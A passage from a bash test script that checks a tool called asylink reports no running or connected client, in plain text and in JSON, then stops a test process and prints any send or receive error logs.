  grep -q 'no client running' "$T/status-it.out"
"$ASYLINK" status --config "$T/IT.ini" --json >"$T/status-it.json" 2>&1
check_eq "  (--json: running false)" "$(json_get "$T/status-it.json" 'j["running"]')" False
check_eq "  (--json: connected false)" "$(json_get "$T/status-it.json" 'j["connected"]')" False
kill -TERM "$REUSED"

for f in send1.err send2.err send3.err recv1.err recv2.err; do
  [[ -s $T/$f ]] && show "$T/$f"
done
summary
